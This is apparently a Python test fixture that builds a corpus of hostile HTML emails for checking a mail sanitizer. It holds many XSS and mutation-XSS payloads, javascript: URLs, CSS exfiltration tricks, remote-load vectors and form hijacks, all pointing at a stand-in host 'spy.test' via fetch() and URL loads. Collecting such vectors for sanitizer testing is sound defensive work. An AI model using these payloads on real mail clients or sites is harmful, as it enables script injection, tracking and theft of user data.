"""HTML mails that try to run something, load something, or leave their frame.

Written for this project in the kinds that the cure53 and OWASP lists collect. `SPY` is an address that must never be
asked, `RUN` a script that must never run: it would leave a mark in the window that holds the letter, and ask the spy.
"""

from __future__ import annotations

from typing import Final

SPY: Final = "http://spy.test/x"
RUN: Final = "top.__ran=1;parent.__ran=1;window.__ran=1;fetch('http://spy.test/ran')"
_CODE: Final = "javascript:top.__ran=1"

_EVENTS: Final = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "onanimationend", "ontransitionend", "onpageshow", "onresize", "onscroll", "onhashchange", "onmessage", "onbeforeunload", "onpointerover", "onpointerenter", "onwheel", "ontoggle", "onbegin", "onend", "onrepeat", "onformdata", "oncut", "onpaste", "onselectstart", "oncontentvisibilityautostatechange", "onbeforetoggle", "onscrollend"]
"""Handler names; each is tried on elements that fire it by themselves where there are such."""

_SCRIPTS: Final = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={SPY}.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0b>{RUN}</script>",
    f"<script/xss>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<script type=module>import '{SPY}'</script>",
    f'<script type="text/template"></script><script>{RUN}</script>',
    f"<noscript><p title='</noscript><script>{RUN}</script>'></noscript>",
    f"<title><a title='</title><img src=x onerror={RUN!r}>'></title>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN!r}>'></textarea>",
    f"<xmp><p title='</xmp><script>{RUN}</script>'></xmp>",
    f"<noembed><p title='</noembed><script>{RUN}</script>'></noembed>",
    f"<noframes><p title='</noframes><script>{RUN}</script>'></noframes>",
    f"<plaintext><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<a href='{_CODE}'>one</a>",
    f"<a href='JaVaScRiPt:{RUN}'>one</a>",
    f"<a href='&#106;avascript:{RUN}'>one</a>",
    f"<a href='java&#9;script:{RUN}'>one</a>",
    f"<a href='java&Tab;script&colon;{RUN}'>one</a>",
    f"<a href='\x01javascript:{RUN}'>one</a>",
    f"<a href='vbscript:{RUN}'>one</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>one</a>",
    f"<area shape=rect coords=0,0,900,900 href='{_CODE}'>",
    f"<map name=m><area href='{_CODE}'></map><img usemap=#m src=data:image/png;base64,AAAA>",
    f"<a xlink:href='{_CODE}'>one</a>",
)
_SVG: Final = (
    f"<svg onload={RUN!r}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='{SPY}.js'/></svg>",
    f"<svg><animate onbegin={RUN!r} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=href to='{_CODE}'/></svg>",
    f"<svg><a><animate attributeName=href values='{_CODE}'/><text y=20>one</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><image href='{SPY}.png'/></svg>",
    f"<svg><use href='{SPY}.svg#x'/></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN[:12]}'/>#x\"/></svg>",
    f"<svg><style>@import '{SPY}.css'</style></svg>",
    f"<svg><filter id=f><feImage href='{SPY}.png'/></filter><rect filter=url(#f) /></svg>",
    f"<svg><title><style><img src=x onerror={RUN!r}></style></title></svg>",
    f"<svg><desc><table><a id=a></a></table></desc><img src=x onerror={RUN!r}></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN!r}&gt;'>",
    f"<math><mi><script>{RUN}</script></mi></math>",
    f"<math href='{_CODE}'><mi>one</mi></math>",
    f"<math><maction actiontype=statusline xlink:href='{_CODE}'>one</maction></math>",
    f"<img src=\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN[:11]}'/>\">",
    f"<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN[:11]}</script></svg>\">",
)
_MUTATION: Final = (
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN!r}>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN!r}>'>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN!r}></style></annotation-xml></math>",
    f"<table><caption><svg><title><table><caption></caption><style><a title='</style><img src onerror={RUN!r}>'>",
    f"<p><svg><desc><p><style></desc></svg><img title='</style><img src=x onerror={RUN!r}>'>",
    f"<select><iframe><select><img src=x onerror={RUN!r}></iframe>",
    f"<select><noscript></select><script>{RUN}</script></noscript>",
    f"<template><script>{RUN}</script></template>",
    f"<div><template shadowrootmode=open><script>{RUN}</script><img src={SPY}.png></template></div>",
    f"<listing>&lt;img src=x onerror={RUN!r}&gt;</listing>",
    f"<p title='--!><img src=x onerror={RUN!r}>'><!--",
    f"<!--x--!><img src=x onerror={RUN!r}>-->",
    f"<img src=x title='&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;'>",
    f"<style><style/><img src=x onerror={RUN!r}>",
    f"<style><!--</style><img src=x onerror={RUN!r}>--></style>",
    f"<iframe><!--</iframe><img src=x onerror={RUN!r}>-->",
    f"<b></b><a href=x\x00onclick={RUN!r}>one</a>",
    f"<img \x00src=x on\x00error={RUN!r}>",
    f"<img src='x' `onerror={RUN!r}>",
    "<div>" * 400 + f"<img src=x onerror={RUN!r}>",
)
_LOADING: Final = (
    f"<img src={SPY}.png>",
    "<img src=//spy.test/x.png>",
    f"<img src='https:{SPY[5:]}.png'>",
    f"<img srcset='{SPY}.png 2x'>",
    f"<picture><source srcset={SPY}.png><img></picture>",
    f"<img lowsrc={SPY}.png dynsrc={SPY}.avi>",
    f"<input type=image src={SPY}.png>",
    f"<video src={SPY}.mp4 poster={SPY}.png autoplay></video>",
    f"<audio src={SPY}.mp3 autoplay></audio>",
    f"<video><source src={SPY}.mp4><track src={SPY}.vtt></video>",
    f"<iframe src={SPY}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script><img src={SPY}.png>'></iframe>",
    f"<frameset><frame src={SPY}></frameset>",
    f"<object data={SPY}.swf><param name=movie value={SPY}.swf></object>",
    f"<embed src={SPY}.swf>",
    f"<applet code={SPY}></applet>",
    f"<link rel=stylesheet href={SPY}.css>",
    f"<link rel=prefetch href={SPY}><link rel=dns-prefetch href=//spy.test><link rel=preconnect href=//spy.test>",
    f"<link rel=icon href={SPY}.ico>",
    f"<base href='{SPY}/'><img src=y.png><a href=z>one</a>",
    f"<meta http-equiv=refresh content='0;url={SPY}'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
    "<meta http-equiv=set-cookie content='a=b'>"
    f"<meta http-equiv=Content-Security-Policy content='img-src *'><img src={SPY}.png>",
    f"<body background={SPY}.png onload={RUN!r}>text</body>",
    f"<table background={SPY}.png><tr><td background={SPY}.png>cell</td></tr></table>",
    f"<a ping={SPY} href='https://example.test/'>one</a>",
    f"<portal src={SPY}></portal><fencedframe src={SPY}></fencedframe>",
    f"<img src=x loading=lazy onerror=\"this.src='{SPY}.png'\">",
    f"<blockquote cite={SPY}>quoted</blockquote><q cite={SPY}>q</q>",
    f"<html manifest={SPY}><body>old cache</body></html>",
)
_STYLES: Final = (
    f"<div style='background:url({SPY}.png)'>text</div>",
    f"<div style='background:u\\72l({SPY}.png)'>text</div>",
    f"<div style='background:\\75\\72\\6c({SPY}.png)'>text</div>",
    f"<div style='background:image-set(\"{SPY}.png\" 1x)'>text</div>",
    f"<div style='background:-webkit-image-set(url({SPY}.png) 1x)'>text</div>",
    f"<div style='list-style:url({SPY}.png);display:list-item'>text</div>",
    f"<div style='cursor:url({SPY}.cur),auto'>text</div>",
    f"<div style='content:url({SPY}.png)'>text</div>",
    f"<div style='border-image:url({SPY}.png)'>text</div>",
    f"<div style='mask:url({SPY}.svg#m);filter:url({SPY}.svg#f)'>text</div>",
    f"<div style='--a:url({SPY}.png);background:var(--a)'>text</div>",
    f"<div style='width:expression({RUN})'>text</div>",
    f"<div style='behavior:url({SPY}.htc);-moz-binding:url({SPY}.xml#x)'>text</div>",
    f"<style>@import '{SPY}.css';</style>",
    f"<style>@import url({SPY}.css) screen;</style>",
    f"<style>@im\\port '{SPY}.css';</style>",
    f"<style>@font-face{{font-family:s;src:url({SPY}.woff)}}body{{font-family:s}}</style>text",
    f"<style>@namespace x url({SPY});*{{background:url({SPY}.png)}}</style>text",
    f"<style>input[value^=a]{{background:url({SPY}.png?a)}}</style><input value=abc>",
    f"<style>@media all{{body{{background:url({SPY}.png)}}}}</style>text",
    f"<style>@supports (display:block){{p{{background:url({SPY}.png)}}}}</style><p>text</p>",
    f"<style>@keyframes k{{to{{background:url({SPY}.png)}}}}p{{animation:k 1ms}}</style><p>text</p>",
    f"<style>p::after{{content:url({SPY}.png)}}</style><p>text</p>",
    f"<style>@property --x{{syntax:'<url>';initial-value:url({SPY}.png);inherits:true}}p{{background:var(--x)}}"
    "</style><p>text</p>",
    f"<style>p{{background:src('{SPY}.png')}}</style><p>text</p>",
    f"<style>@charset 'x';@layer a{{p{{background:url('{SPY}.png')}}}}</style><p>text</p>",
    f"<style>p{{background:url(/*);background:url({SPY}.png)/**/}}</style><p>text</p>",
    f"<style></style\n><script>{RUN}</script>",
    f"<style>p{{color:red}}</style><style>&lt;/style&gt;<script>{RUN}</script></style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>a page that is not ours</div>",
)
_FORMS: Final = (
    f"<form action={SPY} method=post><input name=p><button>Send</button></form>",
    f"<form id=f action='{_CODE}'><button>Send</button></form><button form=f>Send</button>",
    f"<form><button formaction='{_CODE}'>one</button><input type=submit formaction={SPY}></form>",
    f"<isindex action={SPY} type=submit value=one>",
    f"<input autofocus onfocus={RUN!r}><select autofocus onfocus={RUN!r}></select>",
    f"<textarea autofocus onfocus={RUN!r}></textarea><keygen autofocus onfocus={RUN!r}>",
    f"<details open ontoggle={RUN!r}><summary>one</summary>two</details>",
    f"<dialog open oncancel={RUN!r}><form method=dialog><button>one</button></form></dialog>",
    f"<div contenteditable onfocus={RUN!r} autofocus>one</div>",
    f"<button popovertarget=p>one</button><div id=p popover onbeforetoggle={RUN!r}>two</div>",
    "<a href='/settings' target=_top>one</a><a href='#x' target=_parent>two</a>",
    "<img name=body><form name=cookie></form><a id=defaultView></a><img name=getElementById>",
)


def letters() -> list[str]:
    """All of them; each is the HTML of one mail."""
    handlers = [
        f"<img src=x {event}={RUN!r} style='animation:a 1ms'><svg {event}={RUN!r}/><body {event}={RUN!r}>{event}</body>"
        for event in _EVENTS
    ]
    return [*_SCRIPTS, *_SVG, *_MUTATION, *_LOADING, *_STYLES, *_FORMS, *handlers]
